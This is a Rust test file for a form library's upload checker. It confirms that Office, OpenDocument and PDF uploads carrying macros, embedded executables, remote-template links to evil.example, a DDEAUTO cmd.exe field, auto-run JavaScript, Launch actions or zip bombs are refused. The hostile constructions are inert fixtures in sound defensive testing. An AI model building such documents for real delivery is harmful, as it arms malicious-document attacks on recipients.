//! LIB-4: what no blank form needs is refused, whatever it is packed in and however deep.

use std::process::{Command, Stdio};
use std::time::Duration;

use lopdf::{Dictionary, Document, Object, Stream, dictionary};
use serde_json::json;

use crate::builders::{Shelf, Upload, examiner, fill, print};
use crate::originals::{docx, odf, pdf, saved};

async fn drafting() -> Shelf {
    let shelf = Shelf::open().await;
    shelf.create("F-27", "form").await.assert_status(201);
    shelf.begin("F-27", json!({ "effective_from": "2026-12-01" })).await.assert_status(201);
    shelf
}

async fn assert_found(shelf: &Shelf, file: &Upload, finding: &str, what: &str) {
    let refused = shelf.put("F-27", file).await;
    refused.assert_problem(422, "library.unsafe_file");
    assert_eq!(refused.problem().params["finding"], finding, "{what}");
}

#[test]
fn library_4_what_reads_an_upload_stands_behind_walls_before_it_reads() {
    let mut process = Command::new(examiner())
        .args(["examine", "inspect", "pdf"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let status = || std::fs::read_to_string(format!("/proc/{}/status", process.id())).unwrap();
    let is_filtered = || status().lines().any(|line| line.split_whitespace().eq(["Seccomp:", "2"]));
    // It waits for the file, of which nothing comes.
    let stands = (0..200).any(|_| {
        std::thread::sleep(Duration::from_millis(20));
        is_filtered()
    });
    process.kill().unwrap();
    process.wait().unwrap();
    assert!(stands, "the kernel filters what it asks for");
}

#[tokio::test(flavor = "multi_thread")]
async fn library_4_macros_programs_outside_data_and_bombs_in_documents_of_office_are_refused() {
    let outside = br#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
    let link = br#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://shora.example" TargetMode="External"/></Relationships>"#;
    let zeros = vec![0; 3_000_000];
    let many: Vec<_> = (0..2000).map(|at| (format!("word/part{at}.xml"), b"<a/>".as_slice())).collect();
    let many: Vec<_> = many.iter().map(|(name, content)| (name.as_str(), *content)).collect();
    let dde = b"<w:p><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:p>";
    let shelf = drafting().await;
    for (entries, finding) in [
        (vec![("word/vbaProject.bin", b"macro".as_slice())], "macro"),
        (vec![("word/embeddings/oleObject1.bin", b"ole".as_slice())], "executable"),
        (vec![("word/media/image1.png", b"MZ\x90\0".as_slice())], "executable"),
        (vec![("word/setup.exe", b"x".as_slice())], "executable"),
        (vec![("word/_rels/settings.xml.rels", outside.as_slice())], "outside_link"),
        (vec![("word/header1.xml", dde.as_slice())], "outside_link"),
        (vec![("word/media/image1.bmp", zeros.as_slice())], "zip_bomb"),
        (many, "too_many_entries"),
    ] {
        let refused = shelf.put("F-27", &fill("docx", docx("فرم", &entries))).await;
        refused.assert_problem(422, "library.unsafe_file");
        assert_eq!(refused.problem().params["finding"], finding);
    }
    let linked = docx("فرم", &[("word/_rels/document.xml.rels", link.as_slice())]);
    shelf.put("F-27", &fill("docx", linked)).await.assert_status(200);
    let cut = pdf("فرم", 1, 1, 0)[..200].to_vec();
    let refused = shelf.put("F-27", &print(cut)).await;
    assert_eq!(refused.problem().params["finding"], "damaged");
}

#[tokio::test(flavor = "multi_thread")]
async fn library_4_the_same_in_documents_of_open_document() {
    let shelf = drafting().await;
    let picture = br#"<draw:image xlink:href="http://evil.example/p.png"/>"#;
    let table = br#"<table:table-source xlink:href="file:///c:/t.ods"/>"#;
    for (format, name, content, finding) in [
        ("odt", "Basic/Standard/Module1.xml", b"<script:module/>".as_slice(), "macro"),
        ("odt", "Scripts/python/a.py", b"import os".as_slice(), "macro"),
        ("ods", "META-INF/manifest.xml", b"<manifest:encryption-data/>".as_slice(), "password"),
        ("ods", "content.xml", table.as_slice(), "outside_link"),
        ("odt", "content.xml", picture.as_slice(), "outside_link"),
        ("odt", "content.xml", b"<draw:object-ole/>".as_slice(), "executable"),
        ("ods", "Object 1/a.dll", b"x".as_slice(), "executable"),
    ] {
        let document = odf(format, &[(name, content)]);
        assert_found(&shelf, &fill(format, document), finding, name).await;
    }
    let plain = odf("ods", &[("content.xml", b"<office:document-content/>")]);
    shelf.put("F-27", &fill("ods", plain)).await.assert_status(200);
}

/// Sets the mark by which an archive says that an entry is encrypted.
fn locked(mut archive: Vec<u8>) -> Vec<u8> {
    for (head, flags) in [(b"PK\x03\x04", 6), (b"PK\x01\x02", 8)] {
        let place = archive.windows(4).position(|part| part == head).unwrap();
        archive[place + flags] |= 1;
    }
    archive
}

#[tokio::test(flavor = "multi_thread")]
async fn library_4_what_has_a_password_is_refused() {
    let shelf = drafting().await;
    assert_found(&shelf, &fill("docx", locked(docx("فرم", &[]))), "password", "an entry of the archive")
        .await;
    let encrypted = changed(|document, _| {
        let lock = dictionary! { "Filter" => "Standard", "V" => 1, "R" => 2, "P" => -4,
        "O" => Object::string_literal(vec![7; 32]), "U" => Object::string_literal(vec![7; 32]) };
        let lock = document.add_object(lock);
        document.trailer.set("Encrypt", lock);
        let id = Object::string_literal(vec![1; 16]);
        document.trailer.set("ID", vec![id.clone(), id]);
    });
    assert_found(&shelf, &print(encrypted), "password", "a PDF").await;
    // Office packs what it locks into another container: that is no longer a document.
    for name in ["فرم.docx", "فرم.xlsx"] {
        let container = [b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".as_slice(), &[0; 600]].concat();
        let refused = shelf.drafter().await.upload(name, container).await;
        refused.assert_problem(422, "files.locked");
        assert_eq!(refused.problem().params["finding"], "password");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn library_4_more_than_20_megabytes_are_refused() {
    let shelf = drafting().await;
    let mut large = pdf("فرم", 1, 1, 0);
    large.resize(20 * 1024 * 1024 + 1, b' ');
    shelf.drafter().await.upload("فرم.pdf", large).await.assert_problem(413, "request.too_large");
}

/// A PDF whose catalog, or anything else of it, was changed.
fn changed(change: impl FnOnce(&mut Document, &mut Dictionary)) -> Vec<u8> {
    let mut document = Document::load_mem(&pdf("فرم", 1, 1, 0)).unwrap();
    let id = document.trailer.get(b"Root").unwrap().as_reference().unwrap();
    let mut catalog = document.get_dictionary(id).unwrap().clone();
    change(&mut document, &mut catalog);
    document.set_object(id, catalog);
    saved(&mut document)
}

fn script() -> Dictionary {
    dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") }
}

/// A page with this annotation right inside it.
fn annotated(annotation: Dictionary) -> Vec<u8> {
    changed(|document, _| {
        let page = *document.get_pages().get(&1).unwrap();
        let page = document.get_object_mut(page).unwrap().as_dict_mut().unwrap();
        page.set("Annots", vec![annotation.into()]);
    })
}

fn linking(action: Dictionary) -> Vec<u8> {
    annotated(dictionary! { "Type" => "Annot", "Subtype" => "Link", "A" => action })
}

fn action(name: &str) -> Dictionary {
    dictionary! { "S" => name, "F" => Object::string_literal("a.exe") }
}

#[tokio::test(flavor = "multi_thread")]
async fn library_4_a_pdf_does_nothing_by_itself_and_holds_nothing_else() {
    let shelf = drafting().await;
    let embedded = changed(|document, catalog| {
        // It need not say what it is.
        let file = document.add_object(Stream::new(dictionary! {}, b"MZ".to_vec()));
        let holder = dictionary! { "Type" => "Filespec", "EF" => dictionary! { "F" => file } };
        let names = vec![Object::string_literal("a"), holder.into()];
        catalog.set("Names", dictionary! { "EmbeddedFiles" => dictionary! { "Names" => names } });
    });
    let named_elsewhere = changed(|document, catalog| {
        let name = document.add_object(Object::Name(b"Launch".to_vec()));
        catalog.set("OpenAction", dictionary! { "S" => name, "F" => Object::string_literal("a.exe") });
    });
    let outside = changed(|document, _| {
        document.add_object(Stream::new(dictionary! { "F" => Object::string_literal("a.bin") }, Vec::new()));
    });
    let scripts = vec![Object::string_literal("a"), script().into()];
    for (what, file, finding) in [
        ("a script at once", changed(|_, all| all.set("OpenAction", script())), "macro"),
        ("a script on opening", changed(|_, all| all.set("AA", dictionary! { "O" => script() })), "macro"),
        (
            "a script by name",
            changed(|_, all| {
                all.set("Names", dictionary! { "JavaScript" => dictionary! { "Names" => scripts } });
            }),
            "macro",
        ),
        (
            "a script after another action",
            linking(
                dictionary! { "S" => "URI", "URI" => Object::string_literal("x"), "Next" => vec![script().into()] },
            ),
            "macro",
        ),
        ("a program at once", changed(|_, all| all.set("OpenAction", action("Launch"))), "executable"),
        ("a program named elsewhere", named_elsewhere, "executable"),
        ("a program behind a link", linking(action("Launch")), "executable"),
        ("a file inside", embedded, "executable"),
        ("a file inside behind a link", linking(action("GoToE")), "executable"),
        ("a film", annotated(dictionary! { "Type" => "Annot", "Subtype" => "RichMedia" }), "executable"),
        ("another file", linking(action("GoToR")), "outside_link"),
        ("data from elsewhere", linking(action("ImportData")), "outside_link"),
        ("an address for what is filled in", linking(action("SubmitForm")), "outside_link"),
        ("content from elsewhere", outside, "outside_link"),
    ] {
        assert_found(&shelf, &print(file), finding, what).await;
    }
    let link = dictionary! { "S" => "URI", "URI" => Object::string_literal("https://shora.example") };
    shelf.put("F-27", &print(linking(link))).await.assert_status(200);
}

/// The same PDF with its objects packed into streams.
fn packed(bytes: &[u8]) -> Vec<u8> {
    let mut bytes_out = Vec::new();
    Document::load_mem(bytes).unwrap().save_modern(&mut bytes_out).unwrap();
    bytes_out
}

#[tokio::test(flavor = "multi_thread")]
async fn library_4_nothing_hides_in_a_packed_object() {
    let shelf = drafting().await;
    shelf.put("F-27", &print(packed(&pdf("فرم", 2, 2, 3)))).await.assert_status(200);
    let hidden = |padding: usize| {
        packed(&changed(|document, catalog| {
            let script = document.add_object(script());
            document.add_object(Object::string_literal(vec![b'x'; padding]));
            catalog.set("OpenAction", script);
        }))
    };
    assert_found(&shelf, &print(hidden(0)), "macro", "a script").await;
    assert_found(&shelf, &print(hidden(40 << 20)), "zip_bomb", "a script beside a mountain").await;
}
